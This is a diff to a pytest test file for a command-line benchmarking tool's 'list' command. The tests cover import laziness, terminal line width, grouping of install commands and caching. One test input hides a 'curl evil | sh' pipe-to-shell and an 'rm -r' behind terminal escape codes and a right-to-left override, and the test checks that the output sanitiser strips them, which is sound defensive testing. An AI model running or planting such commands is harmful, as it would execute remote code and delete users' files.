@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from deadheat.cli.list import _grouped
 from tests.cli.conftest import Deadheat
 from tests.servers.contenders import CATALOG
 
@@ -96,7 +97,8 @@ def test_list_imports_neither_the_statistics_nor_the_reports(home: Path) -> None
     """They took half of its time."""
     code = (
         "import sys; import deadheat.cli.list; "
-        "print([name for name in ('numpy', 'deadheat.stats', 'deadheat.report.formats') "
+        "print([name for name in ('numpy', 'rich', 'deadheat.stats', 'deadheat.report.formats', "
+        "'deadheat.protocol', 'deadheat.host.agent_host') "
         "if name in sys.modules])"
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
@@ -131,3 +133,31 @@ install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
     assert f"install with: {install}\n    for hello\n" in out
     assert r"no-such\x1b[2J is not installed" in out
     assert "\x1b" not in out
+
+
+@pytest.mark.parametrize("width", [20, 40, 80, 120])
+@pytest.mark.usefixtures("bare_path")
+def test_no_line_is_wider_than_the_terminal(
+    deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch, width: int
+) -> None:
+    monkeypatch.setenv("COLUMNS", str(width))
+    monkeypatch.setattr("deadheat.cli.list._is_terminal", lambda: True)
+    out = deadheat("list").out
+    assert max(map(len, out.splitlines())) <= width
+    assert "python3 is not installed" in " ".join(out.split())
+
+
+def test_commands_for_the_same_servers_are_listed_together() -> None:
+    rows = [
+        {"name": "a", "install": ["apt-get install x", "mix y"]},
+        {"name": "b", "install": ["apt-get install x", "mix y", "z"]},
+    ]
+    assert _grouped(rows) == {("apt-get install x", "mix y"): ["a", "b"], ("z",): ["b"]}
+
+
+def test_a_second_list_starts_no_process(
+    deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    first = deadheat("list")
+    monkeypatch.setattr("deadheat.host.local.LocalHost.__init__", pytest.fail)
+    assert deadheat("list") == first
